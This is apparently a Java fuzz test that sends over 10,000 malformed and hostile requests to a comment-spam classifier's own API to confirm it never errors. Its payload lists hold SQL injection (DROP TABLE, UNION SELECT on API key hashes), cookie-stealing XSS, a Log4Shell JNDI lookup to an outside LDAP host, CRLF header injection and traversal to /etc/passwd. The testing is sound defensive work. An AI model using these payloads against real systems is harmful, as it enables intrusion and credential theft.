package com.commentshield.security;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import io.quarkus.test.common.http.TestHTTPResource;
import io.quarkus.test.junit.QuarkusTest;
import io.quarkus.test.junit.QuarkusTestProfile;
import io.quarkus.test.junit.TestProfile;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.net.URI;
import java.net.URLEncoder;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.net.http.HttpTimeoutException;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.util.ArrayList;
import java.util.Base64;
import java.util.Collections;
import java.util.Iterator;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.Set;
import java.util.concurrent.ExecutorService;
import java.util.concurrent.Executors;
import java.util.concurrent.Future;
import java.util.concurrent.atomic.AtomicInteger;
import org.junit.jupiter.api.Test;

/**
 * Sends more than 10,000 generated malformed and hostile requests to every route the OpenAPI
 * document lists, with the credentials each route needs: broken JSON, wrong types, huge and deeply
 * nested bodies, invalid UTF-8, control characters, 1 MB comments, header abuse, path traversal and
 * odd ids, SQL and script injection in every text field. Every answer must be a 4xx or a
 * well-formed 2xx, never a 5xx, and come within a few seconds; the service must still be ready
 * afterwards. Its own profile gives it a fresh database, so the keys, items and policy it creates
 * do not leak into other tests.
 */
@QuarkusTest
@TestProfile(HostileInputTest.Isolated.class)
class HostileInputTest {

  /** A separate profile only for a fresh application and database. */
  public static class Isolated implements QuarkusTestProfile {
    @Override
    public Map<String, String> getConfigOverrides() {
      return Map.of("commentshield.reasons.max", "6");
    }
  }

  private static final int TARGET = 10_500;
  private static final Duration TIMEOUT = Duration.ofSeconds(10);
  private static final long SLOW_MILLIS = 5_000;
  private static final String KEY = "test-key-1";
  private static final String BASIC =
      "Basic "
          + Base64.getEncoder()
              .encodeToString("admin:admin-test-password".getBytes(StandardCharsets.UTF_8));
  private static final ObjectMapper JSON = new ObjectMapper();

  @TestHTTPResource("/")
  URI base;

  record Route(String method, String path, String mediaType) {
    @Override
    public String toString() {
      return method + " " + path;
    }
  }

  record Case(
      String method,
      String path,
      List<String[]> headers,
      byte[] body,
      String what,
      boolean mayClose) {}

  // --- Hostile values --------------------------------------------------------------------------

  private static final String MEGA = "spam ".repeat(210_000); // ~1 MB comment
  private static final String TEN_K = "x".repeat(10_001);
  private static final String LONG_ID = "9".repeat(5_000);

  private static final List<String> STRINGS =
      List.of(
          "' OR '1'='1",
          "'; DROP TABLE flagged_item; --",
          "1; DELETE FROM api_key WHERE 1=1",
          "\" OR \"\"=\"",
          "admin'--",
          "1 UNION SELECT key_hash, label FROM api_key --",
          "<script>alert(document.cookie)</script>",
          "\"><img src=x onerror=alert(1)>",
          "javascript:alert(1)",
          "<svg/onload=alert(1)>",
          "{{7*7}}${7*7}#{7*7}",
          "${jndi:ldap://203.0.113.1/a}",
          "%s%s%s%n%x",
          "../../../../etc/passwd",
          "..\\..\\windows\\win.ini",
          "\u202Egnp.exe",
          "\u0000\u0001\u0007\u001b[31mred\u001b[0m",
          "line1\r\nSet-Cookie: x=1",
          "\uD83D\uDE00\uD83D\uDCA9 emoji",
          "\uFEFF\u200B\u200D",
          "\uD800 lone surrogate",
          "",
          "   ",
          "null",
          "-1",
          "1e309",
          "9223372036854775808",
          "a".repeat(201),
          "b".repeat(2_001),
          TEN_K);

  private static final List<String> WRONG_TYPES =
      List.of(
          "123",
          "-1",
          "1.5e308",
          "-1e309",
          "true",
          "false",
          "[]",
          "{}",
          "[1,2,3]",
          "{\"a\":{\"b\":1}}",
          "\"\"",
          "\"x\"",
          "99999999999999999999999999",
          "NaN",
          "0x10",
          "\"\\u0000\"",
          "[null]",
          "{\"\":\"\"}");

  private static final List<String> BROKEN_JSON =
      List.of(
          "{",
          "}",
          "[",
          "{\"content\":",
          "{\"content\":\"unterminated",
          "{\"content\":\"x\",}",
          "{'content':'x'}",
          "{content:\"x\"}",
          "{\"content\":\"x\" \"author\":{}}",
          "[}",
          ",",
          "{\"content\":\"\\uZZZZ\"}",
          "{\"content\":\"\\x41\"}",
          "{\"content\":01}",
          "\u0000",
          "{\"content\":\"a\"}{\"content\":\"b\"}",
          "{\"content\":\"x\"}garbage",
          "// comment\n{\"content\":\"x\"}",
          "{\"content\":\"x\"/*c*/}",
          "\"just a string\"",
          "42",
          "true",
          "{\"content\":\"tab\there\"}",
          "{\"content\":\"nl\nhere\"}",
          "{\"a\":1,\"a\":2}",
          "{\"content\":\"x\",\"content\":\"y\"}");

  private static final List<String> BAD_IDS =
      List.of(
          "..",
          "../",
          "..%2f..%2fadmin%2fmodels",
          "%2e%2e",
          "%2e%2e%2f%2e%2e%2fetc%2fpasswd",
          "..%5c..%5c",
          "-1",
          "0",
          "-9223372036854775808",
          "9223372036854775808",
          LONG_ID,
          "1;DROP%20TABLE%20flagged_item",
          "1%20OR%201=1",
          "%27%20OR%20%271%27=%271",
          "%00",
          "1%00",
          "abc",
          "1.5",
          "1e3",
          "%3Cscript%3E",
          "%20",
          "+1",
          "0x1",
          "%F0%9F%98%80",
          "%ff%fe",
          "1/../../admin",
          "%252e%252e");

  private static final String DEEP_ARRAY = "[".repeat(100_000) + "]".repeat(100_000);
  private static final String DEEP_OBJECT = "{\"a\":".repeat(20_000) + "1" + "}".repeat(20_000);
  private static final String DEEP_CONTENT =
      "{\"content\":\"x\",\"author\":" + "{\"name\":".repeat(5_000) + "\"n\"" + "}".repeat(5_001);
  private static final byte[] HUGE = new byte[3 * 1024 * 1024];

  static {
    byte[] chunk = "{\"content\":\"".getBytes(StandardCharsets.UTF_8);
    java.util.Arrays.fill(HUGE, (byte) 'a');
    System.arraycopy(chunk, 0, HUGE, 0, chunk.length);
  }

  // --- The test ---------------------------------------------------------------------------------

  @Test
  void everyHostileRequestGetsA4xxOrACorrect2xxQuickly() throws Exception {
    HttpClient client =
        HttpClient.newBuilder()
            .version(HttpClient.Version.HTTP_1_1)
            .connectTimeout(Duration.ofSeconds(5))
            .followRedirects(HttpClient.Redirect.NEVER)
            .build();
    awaitReady(client);
    List<Route> routes = routes(client);
    List<Case> cases = generate(routes, new Random(20_240_607L));
    assertTrue(cases.size() >= 10_000, "only " + cases.size() + " cases");

    List<String> failures = Collections.synchronizedList(new ArrayList<>());
    Map<Integer, AtomicInteger> statuses = new java.util.concurrent.ConcurrentHashMap<>();
    AtomicInteger closed = new AtomicInteger();
    long started = System.nanoTime();
    try (ExecutorService pool = Executors.newFixedThreadPool(6)) {
      List<Future<?>> futures = new ArrayList<>();
      for (Case c : cases) {
        futures.add(pool.submit(() -> send(client, c, failures, statuses, closed)));
      }
      for (Future<?> f : futures) {
        f.get();
      }
    }
    long seconds = (System.nanoTime() - started) / 1_000_000_000L;
    System.out.printf(
        "hostile input: %d requests over %d routes in %d s; statuses %s; %d closed by the server%n",
        cases.size(), routes.size(), seconds, new java.util.TreeMap<>(statuses), closed.get());

    HttpResponse<String> ready =
        client.send(
            HttpRequest.newBuilder(base.resolve("/q/health/ready")).timeout(TIMEOUT).build(),
            HttpResponse.BodyHandlers.ofString());
    if (ready.statusCode() != 200 || !ready.body().contains("\"UP\"")) {
      failures.add("/q/health/ready after the run -> " + ready.statusCode() + " " + ready.body());
    }
    assertEquals(
        List.of(),
        failures.stream().sorted().toList(),
        failures.size() + " of " + cases.size() + " hostile requests failed");
  }

  private void send(
      HttpClient client,
      Case c,
      List<String> failures,
      Map<Integer, AtomicInteger> statuses,
      AtomicInteger closed) {
    String label = c.method() + " " + abbreviate(c.path()) + " [" + c.what() + "]";
    long t0 = System.nanoTime();
    try {
      // Appended, not resolved: a path starting with "//" would otherwise name another host.
      HttpRequest.Builder b =
          HttpRequest.newBuilder(URI.create(base.toString().replaceAll("/$", "") + c.path()))
              .timeout(TIMEOUT);
      for (String[] h : c.headers()) {
        b.header(h[0], h[1]);
      }
      b.method(
          c.method(),
          c.body() == null
              ? HttpRequest.BodyPublishers.noBody()
              : HttpRequest.BodyPublishers.ofByteArray(c.body()));
      HttpRequest request = b.build();
      HttpResponse<byte[]> r;
      try {
        r = client.send(request, HttpResponse.BodyHandlers.ofByteArray());
      } catch (IOException e) {
        // A pooled keep-alive connection the server had just closed (it closes after a 413 or
        // 431): the request never reached it. Send it once more on a fresh connection.
        if (!String.valueOf(e.getMessage()).contains("received no bytes")) {
          throw e;
        }
        r = client.send(request, HttpResponse.BodyHandlers.ofByteArray());
      }
      long millis = (System.nanoTime() - t0) / 1_000_000;
      int status = r.statusCode();
      statuses.computeIfAbsent(status, s -> new AtomicInteger()).incrementAndGet();
      if (millis > SLOW_MILLIS) {
        failures.add("slow " + millis + " ms: " + status + " " + label);
      }
      if (status >= 500 || status < 200 || (status >= 300 && status < 400 && !loginRedirect(r))) {
        failures.add(
            status + " " + label + ": " + abbreviate(new String(r.body(), StandardCharsets.UTF_8)));
      } else if (status < 300) {
        String problem = wrong2xx(c, r);
        if (problem != null) {
          failures.add(status + " but " + problem + ": " + label);
        }
      }
    } catch (HttpTimeoutException e) {
      failures.add("no answer within " + TIMEOUT.toSeconds() + " s: " + label);
    } catch (IOException e) {
      // The server may answer an over-long header or body early and close the connection.
      if (c.mayClose()) {
        closed.incrementAndGet();
      } else {
        failures.add("connection error " + e + ": " + label);
      }
    } catch (IllegalArgumentException e) {
      failures.add("client could not send (" + e.getMessage() + "): " + label);
    } catch (InterruptedException e) {
      Thread.currentThread().interrupt();
    }
  }

  private static boolean loginRedirect(HttpResponse<byte[]> r) {
    return r.statusCode() == 303
        || r.statusCode() == 302
            && r.headers().firstValue("Location").orElse("").contains("/login");
  }

  /** Null when the 2xx answer is well-formed for its route, else what is wrong with it. */
  private static String wrong2xx(Case c, HttpResponse<byte[]> r) {
    String type = r.headers().firstValue("Content-Type").orElse("");
    if (!type.contains("json")) {
      return null;
    }
    JsonNode body;
    try {
      body = JSON.readTree(r.body());
    } catch (IOException e) {
      return "the body is not JSON";
    }
    String path = c.path().split("\\?")[0];
    if (path.equals("/classify")) {
      return validDecision(body) ? null : "no valid decision in " + abbreviate(body.toString());
    }
    if (path.equals("/classify/batch")) {
      if (!body.isArray()) {
        return "batch answer is not an array";
      }
      for (JsonNode each : body) {
        if (!validDecision(each)) {
          return "no valid decision in " + abbreviate(each.toString());
        }
      }
    }
    return null;
  }

  private static boolean validDecision(JsonNode n) {
    double p = n.path("spamProbability").asDouble(-1);
    return Set.of("allow", "review", "block").contains(n.path("decision").asText())
        && p >= 0
        && p <= 1;
  }

  // --- Generation -------------------------------------------------------------------------------

  private List<Case> generate(List<Route> routes, Random random) {
    List<Case> cases = new ArrayList<>();
    for (Route route : routes) {
      cases.addAll(fixedCases(route));
    }
    int i = 0;
    while (cases.size() < TARGET) {
      Route route = routes.get(i++ % routes.size());
      cases.add(randomCase(route, random));
    }
    return cases;
  }

  /** Every hostile kind once per route: the big payloads are reused, never regenerated. */
  private List<Case> fixedCases(Route route) {
    List<Case> out = new ArrayList<>();
    String path = concrete(route, "1");
    boolean body = hasBody(route);
    if (body) {
      for (String broken : BROKEN_JSON) {
        out.add(json(route, path, broken, "broken JSON " + abbreviate(broken)));
      }
      out.add(
          bytes(
              route,
              path,
              DEEP_ARRAY.getBytes(StandardCharsets.UTF_8),
              "json",
              "100k nested arrays",
              false));
      out.add(
          bytes(
              route,
              path,
              DEEP_OBJECT.getBytes(StandardCharsets.UTF_8),
              "json",
              "20k nested objects",
              false));
      out.add(
          bytes(
              route,
              path,
              DEEP_CONTENT.getBytes(StandardCharsets.UTF_8),
              "json",
              "5k nested author",
              false));
      out.add(bytes(route, path, HUGE, "json", "3 MB body", true));
      out.add(bytes(route, path, HUGE, route.mediaType(), "3 MB body, own type", true));
      out.add(json(route, path, template(route, Map.of(textField(route), MEGA)), "1 MB comment"));
      out.add(bytes(route, path, invalidUtf8(route), route.mediaType(), "invalid UTF-8", false));
      out.add(bytes(route, path, new byte[0], route.mediaType(), "empty body", false));
      for (char control = 0; control < 0x20; control++) {
        String raw = "{\"content\":\"a" + control + "b\",\"label\":\"spam\"}";
        out.add(json(route, path, raw, "raw control char " + (int) control));
      }
      for (String type :
          List.of(
              "text/plain",
              "application/xml",
              "application/json; charset=latin-1",
              "application/json; charset=bogus",
              "application/x-www-form-urlencoded; charset=utf-7",
              "multipart/form-data; boundary=x",
              "*/*",
              "application/json;;;;",
              "\u00e9/\u00e9")) {
        out.add(
            new Case(
                route.method(),
                path,
                headers(route, "Content-Type", type),
                template(route, Map.of()).getBytes(StandardCharsets.UTF_8),
                "Content-Type " + type,
                false));
      }
      List<String[]> dup = auth(route);
      dup.add(new String[] {"Content-Type", "application/json"});
      dup.add(new String[] {"Content-Type", "text/plain"});
      out.add(
          new Case(
              route.method(),
              path,
              dup,
              template(route, Map.of()).getBytes(StandardCharsets.UTF_8),
              "duplicate Content-Type",
              false));
    }
    // Header abuse on every route
    out.add(withHeader(route, path, "X-Junk", "j".repeat(30_000), "30 KB header", true));
    out.add(withHeader(route, path, "X-Junk", "j".repeat(7_000), "7 KB header", false));
    out.add(withHeader(route, path, "Accept", "*/*;q=abc, text/html;;", "bogus Accept", false));
    out.add(withHeader(route, path, "Accept-Charset", "utf-7", "Accept-Charset utf-7", false));
    out.add(withHeader(route, path, "X-Api-Key", "' OR 1=1 --", "injected API key", false));
    out.add(withHeader(route, path, "X-Api-Key", "k".repeat(5_000), "5 KB API key", false));
    out.add(withHeader(route, path, "Authorization", "Basic !!!not-base64", "bad Basic", false));
    out.add(
        withHeader(
            route,
            path,
            "Authorization",
            "Basic " + Base64.getEncoder().encodeToString("admin".getBytes(StandardCharsets.UTF_8)),
            "Basic without colon",
            false));
    out.add(
        withHeader(
            route, path, "Authorization", "Bearer " + "z".repeat(4_000), "huge Bearer", false));
    out.add(
        withHeader(
            route,
            path,
            "X-Forwarded-For",
            "' OR 1=1, <script>",
            "injected X-Forwarded-For",
            false));
    out.add(
        withHeader(
            route,
            path,
            "Cookie",
            "quarkus-credential=" + "%".repeat(3_000),
            "garbage credential cookie",
            false));
    List<String[]> twoKeys = auth(route);
    twoKeys.add(new String[] {"X-Api-Key", "test-key-2"});
    twoKeys.add(new String[] {"X-Api-Key", "nope"});
    out.add(
        new Case(
            route.method(),
            path,
            withType(route, twoKeys),
            body ? template(route, Map.of()).getBytes(StandardCharsets.UTF_8) : null,
            "three X-Api-Key headers",
            false));
    // Path abuse where the route has an id
    if (route.path().contains("{")) {
      for (String id : BAD_IDS) {
        out.add(
            new Case(
                route.method(),
                concrete(route, id),
                withType(route, auth(route)),
                body ? template(route, Map.of()).getBytes(StandardCharsets.UTF_8) : null,
                "id " + abbreviate(id),
                false));
      }
    }
    for (String traversal : List.of("/../", "/%2e%2e/", "/..;/", "/%2e%2e%2f", "//")) {
      String p = route.path().replaceAll("\\{[^}]+}", "1");
      int slash = p.lastIndexOf('/');
      String abused = p.substring(0, slash) + traversal + "admin/models";
      out.add(
          new Case(
              route.method(),
              abused.replace(":", "%3A"),
              withType(route, auth(route)),
              body ? template(route, Map.of()).getBytes(StandardCharsets.UTF_8) : null,
              "traversal " + traversal,
              false));
    }
    return out;
  }

  private Case randomCase(Route route, Random random) {
    String path = concrete(route, "1");
    int kind = random.nextInt(hasBody(route) ? 4 : 2);
    String value = STRINGS.get(random.nextInt(STRINGS.size()));
    List<String> fields = fields(route);
    String field = fields.get(random.nextInt(fields.size()));
    switch (kind) {
      case 0:
        { // injection in a query parameter
          String q =
              path
                  + (path.contains("?") ? "&" : "?")
                  + enc(field)
                  + "="
                  + enc(value)
                  + (route.path().startsWith("/v1alpha1") ? "" : "&key=" + KEY);
          return new Case(
              route.method(),
              q,
              withType(route, auth(route)),
              hasBody(route) ? template(route, Map.of()).getBytes(StandardCharsets.UTF_8) : null,
              "query " + field + "=" + abbreviate(value),
              false);
        }
      case 1:
        { // a hostile id or a hostile header value
          if (route.path().contains("{")) {
            String id = BAD_IDS.get(random.nextInt(BAD_IDS.size()));
            return new Case(
                route.method(),
                concrete(route, id),
                withType(route, auth(route)),
                hasBody(route) ? template(route, Map.of()).getBytes(StandardCharsets.UTF_8) : null,
                "id " + abbreviate(id),
                false);
          }
          String header =
              List.of("User-Agent", "Referer", "X-Forwarded-For", "Accept-Language", "X-Request-Id")
                  .get(random.nextInt(5));
          return withHeader(
              route, path, header, headerSafe(value), header + " " + abbreviate(value), false);
        }
      case 2: // injection or odd text in a text field of an otherwise valid request
        return json(
            route, path, template(route, Map.of(field, value)), field + "=" + abbreviate(value));
      default:
        { // a wrong type in a field
          String wrong = WRONG_TYPES.get(random.nextInt(WRONG_TYPES.size()));
          if (isForm(route) || isTsv(route)) {
            return json(route, path, template(route, Map.of(field, wrong)), field + " <- " + wrong);
          }
          return json(route, path, templateRaw(route, field, wrong), field + " : " + wrong);
        }
    }
  }

  // --- Request templates per route ---------------------------------------------------------------

  private static boolean hasBody(Route r) {
    return r.method().equals("POST") || r.method().equals("PUT") || r.method().equals("PATCH");
  }

  private static boolean isForm(Route r) {
    return r.mediaType().contains("form-urlencoded");
  }

  private static boolean isTsv(Route r) {
    return r.mediaType().contains("tab-separated")
        || r.mediaType().contains("csv")
        || r.path().endsWith("/training-data")
        || r.path().endsWith("/admin/evaluate");
  }

  private static boolean isAkismet(Route r) {
    return r.path().startsWith("/1.");
  }

  private static String textField(Route r) {
    if (isAkismet(r)) {
      return "comment_content";
    }
    if (r.path().startsWith("/v1alpha1")) {
      return "text";
    }
    return fields(r).get(0);
  }

  private static List<String> fields(Route r) {
    String p = r.path();
    if (isAkismet(r)) {
      return List.of(
          "comment_content",
          "blog",
          "user_ip",
          "user_agent",
          "referrer",
          "permalink",
          "comment_type",
          "comment_author",
          "comment_author_email",
          "comment_author_url",
          "blog_lang",
          "blog_charset",
          "comment_date_gmt",
          "is_test",
          "month",
          "limit",
          "offset");
    }
    if (p.startsWith("/v1alpha1")) {
      return List.of("text", "languages", "requestedAttributes", "sessionId", "clientToken");
    }
    if (p.startsWith("/classify") || p.equals("/feedback")) {
      return List.of(
          "content",
          "name",
          "email",
          "url",
          "site",
          "permalink",
          "ip",
          "userAgent",
          "type",
          "externalId",
          "label",
          "id");
    }
    if (p.contains("verdict")) {
      return List.of("note", "label", "id", "csrf", "status");
    }
    if (p.equals("/admin/policy")) {
      return List.of("review", "block", "targetFalsePositiveRate");
    }
    if (p.equals("/admin/retrain") || p.equals("/admin/page/retrain")) {
      return List.of("algorithm", "force", "lambda", "smoothing", "complement", "hashBits", "csrf");
    }
    if (p.equals("/admin/api-keys")) {
      return List.of("label", "length");
    }
    if (p.equals("/moderation/items")) {
      return List.of(
          "status",
          "decision",
          "site",
          "reason",
          "minProbability",
          "maxProbability",
          "sort",
          "page",
          "size");
    }
    if (isTsv(r)) {
      return List.of("text", "label");
    }
    return List.of("csrf", "version", "id", "error", "label");
  }

  /** A valid request body for the route with some fields replaced by hostile strings. */
  private static String template(Route r, Map<String, String> hostile) {
    Map<String, String> v = new LinkedHashMap<>();
    for (String f : fields(r)) {
      v.put(f, null);
    }
    v.putAll(hostile);
    java.util.function.Function<String, String> s =
        f -> v.get(f) != null ? v.get(f) : defaultValue(f);
    String p = r.path();
    if (isAkismet(r) || isForm(r)) {
      StringBuilder form = new StringBuilder("key=" + KEY + "&api_key=" + KEY);
      for (String f : fields(r)) {
        form.append('&').append(enc(f)).append('=').append(enc(s.apply(f)));
      }
      return form.toString();
    }
    if (isTsv(r)) {
      return "label\ttext\n"
          + s.apply("label")
          + "\t"
          + s.apply("text").replace('\t', ' ').replace('\n', ' ')
          + "\n";
    }
    if (p.startsWith("/v1alpha1")) {
      return "{\"comment\":{\"text\":"
          + q(s.apply("text"))
          + "},\"requestedAttributes\":{\"SPAM\":{}},"
          + "\"languages\":["
          + q(s.apply("languages"))
          + "],\"clientToken\":"
          + q(s.apply("clientToken"))
          + "}";
    }
    if (p.startsWith("/classify")) {
      String one =
          "{\"content\":"
              + q(s.apply("content"))
              + ",\"author\":{\"name\":"
              + q(s.apply("name"))
              + ",\"email\":"
              + q(s.apply("email"))
              + ",\"url\":"
              + q(s.apply("url"))
              + "},\"context\":{\"site\":"
              + q(s.apply("site"))
              + ",\"permalink\":"
              + q(s.apply("permalink"))
              + ",\"ip\":"
              + q(s.apply("ip"))
              + ",\"userAgent\":"
              + q(s.apply("userAgent"))
              + ",\"type\":"
              + q(s.apply("type"))
              + "},\"externalId\":"
              + q(s.apply("externalId"))
              + "}";
      return p.endsWith("/batch") ? "[" + one + "," + one + "]" : one;
    }
    if (p.equals("/feedback")) {
      return "{\"externalId\":"
          + q(s.apply("externalId"))
          + ",\"content\":"
          + q(s.apply("content"))
          + ",\"label\":"
          + q(s.apply("label"))
          + "}";
    }
    if (p.endsWith("/items/verdicts")) {
      return "{\"verdicts\":[{\"id\":1,\"label\":"
          + q(s.apply("label"))
          + "}],\"note\":"
          + q(s.apply("note"))
          + "}";
    }
    if (p.contains("verdict")) {
      return "{\"label\":" + q(s.apply("label")) + ",\"note\":" + q(s.apply("note")) + "}";
    }
    if (p.equals("/admin/policy")) {
      // strings where numbers belong: never a valid policy, so the thresholds are never changed
      return "{\"review\":" + q(s.apply("review")) + ",\"block\":" + q(s.apply("block")) + "}";
    }
    if (p.equals("/admin/retrain")) {
      return "{\"algorithm\":" + q(hostile.getOrDefault("algorithm", "bayes' OR 1=1")) + "}";
    }
    if (p.equals("/admin/api-keys")) {
      return "{\"label\":" + q(s.apply("label")) + ",\"length\":12}";
    }
    StringBuilder obj = new StringBuilder("{");
    for (String f : fields(r)) {
      obj.append(obj.length() > 1 ? "," : "").append(q(f)).append(':').append(q(s.apply(f)));
    }
    return obj.append('}').toString();
  }

  /** A JSON body with {@code field} set to the raw JSON {@code value} (a wrong type). */
  private static String templateRaw(Route r, String field, String value) {
    String marker = "\u0001MARK\u0001";
    String body = template(r, Map.of(field, marker));
    String quoted = q(marker);
    if (r.path().equals("/admin/retrain") && !field.equals("algorithm")) {
      // keep the algorithm invalid so no retraining starts
      return "{\"algorithm\":\"nope\"," + q(field) + ":" + value + "}";
    }
    return body.contains(quoted) ? body.replace(quoted, value) : "{" + q(field) + ":" + value + "}";
  }

  private static String defaultValue(String field) {
    return switch (field) {
      case "content", "comment_content", "text" -> "Great post, thanks for writing it!";
      case "email", "comment_author_email" -> "a@b.example";
      case "url", "comment_author_url", "permalink" -> "https://blog.example/p/1";
      case "ip", "user_ip" -> "203.0.113.7";
      case "type", "comment_type" -> "comment";
      case "label" -> "spam";
      case "languages" -> "en";
      case "blog" -> "https://blog.example";
      case "review" -> "0.5";
      case "block" -> "0.9";
      case "id", "version" -> "1";
      default -> "x";
    };
  }

  private static byte[] invalidUtf8(Route r) {
    ByteArrayOutputStream out = new ByteArrayOutputStream();
    byte[] bad = {
      (byte) 0xff, (byte) 0xfe, (byte) 0xc3, (byte) 0x28, (byte) 0xed, (byte) 0xa0, (byte) 0x80
    };
    String marker = "INVALIDUTF8";
    String body = template(r, Map.of(textField(r), marker));
    int at = body.indexOf(marker);
    if (at < 0) {
      out.writeBytes(bad);
      return out.toByteArray();
    }
    out.writeBytes(body.substring(0, at).getBytes(StandardCharsets.UTF_8));
    out.writeBytes(bad);
    out.writeBytes(body.substring(at + marker.length()).getBytes(StandardCharsets.UTF_8));
    return out.toByteArray();
  }

  // --- Small helpers
  // -------------------------------------------------------------------------------

  private static List<String[]> auth(Route r) {
    List<String[]> h = new ArrayList<>();
    String p = r.path();
    if (p.startsWith("/classify") || p.equals("/feedback")) {
      h.add(new String[] {"X-Api-Key", KEY});
    } else if (p.startsWith("/moderation") || p.startsWith("/admin")) {
      h.add(new String[] {"Authorization", BASIC});
    }
    return h;
  }

  private static List<String[]> withType(Route r, List<String[]> h) {
    if (hasBody(r)) {
      h.add(new String[] {"Content-Type", r.mediaType()});
    }
    return h;
  }

  private static List<String[]> headers(Route r, String name, String value) {
    List<String[]> h = auth(r);
    h.add(new String[] {name, value});
    return h;
  }

  private Case json(Route r, String path, String body, String what) {
    return bytes(r, path, body.getBytes(StandardCharsets.UTF_8), r.mediaType(), what, false);
  }

  private Case bytes(
      Route r, String path, byte[] body, String type, String what, boolean mayClose) {
    String contentType = type.equals("json") ? "application/json" : type;
    return new Case(
        r.method(), keyed(r, path), headers(r, "Content-Type", contentType), body, what, mayClose);
  }

  private Case withHeader(
      Route r, String path, String name, String value, String what, boolean mayClose) {
    List<String[]> h = withType(r, auth(r));
    h.removeIf(x -> x[0].equalsIgnoreCase(name));
    h.add(new String[] {name, value});
    byte[] body = hasBody(r) ? template(r, Map.of()).getBytes(StandardCharsets.UTF_8) : null;
    return new Case(r.method(), keyed(r, path), h, body, what, mayClose);
  }

  /** The Perspective door takes its key in the query string. */
  private static String keyed(Route r, String path) {
    return r.path().startsWith("/v1alpha1") && !path.contains("key=") ? path + "?key=" + KEY : path;
  }

  private static String concrete(Route r, String id) {
    return r.path()
        .replaceAll("\\{[^}]+}", java.util.regex.Matcher.quoteReplacement(id))
        .replace(":", "%3A");
  }

  private static String headerSafe(String v) {
    StringBuilder b = new StringBuilder();
    v.chars().filter(c -> c >= 0x20 && c < 0x7f).forEach(c -> b.append((char) c));
    return b.isEmpty() ? "x" : b.toString();
  }

  private static String enc(String s) {
    return URLEncoder.encode(s, StandardCharsets.UTF_8);
  }

  private static String q(String s) {
    try {
      return JSON.writeValueAsString(s);
    } catch (IOException e) {
      throw new IllegalStateException(e);
    }
  }

  private static String abbreviate(String s) {
    String one = s.replaceAll("[\\p{Cntrl}]", "?");
    return one.length() <= 80 ? one : one.substring(0, 77) + "...(" + s.length() + ")";
  }

  private void awaitReady(HttpClient client) throws Exception {
    for (int i = 0; i < 120; i++) {
      HttpResponse<String> r =
          client.send(
              HttpRequest.newBuilder(base.resolve("/q/health/ready")).build(),
              HttpResponse.BodyHandlers.ofString());
      if (r.statusCode() == 200) {
        return;
      }
      Thread.sleep(250);
    }
    throw new AssertionError("service never became ready");
  }

  @SuppressWarnings("unchecked")
  private List<Route> routes(HttpClient client) throws Exception {
    HttpResponse<String> r =
        client.send(
            HttpRequest.newBuilder(base.resolve("/q/openapi"))
                .header("Accept", "application/json")
                .build(),
            HttpResponse.BodyHandlers.ofString());
    Map<String, Object> doc = JSON.readValue(r.body(), Map.class);
    Map<String, Map<String, Object>> paths = (Map<String, Map<String, Object>>) doc.get("paths");
    List<Route> routes = new ArrayList<>();
    paths.forEach(
        (path, ops) -> {
          for (Iterator<String> it = ops.keySet().iterator(); it.hasNext(); ) {
            String m = it.next();
            if (Set.of("get", "post", "put", "delete", "patch").contains(m)) {
              Map<String, Object> op = (Map<String, Object>) ops.get(m);
              Map<String, Object> body = (Map<String, Object>) op.get("requestBody");
              String type =
                  body == null || body.get("content") == null
                      ? (m.equals("get") ? "application/json" : "application/x-www-form-urlencoded")
                      : ((Map<String, Object>) body.get("content")).keySet().iterator().next();
              if (type.equals("*/*")) {
                type =
                    path.startsWith("/1.")
                        ? "application/x-www-form-urlencoded"
                        : "application/json";
              }
              routes.add(new Route(m.toUpperCase(), path, type));
            }
          }
        });
    assertTrue(routes.size() > 10, "routes: " + routes);
    return routes;
  }
}
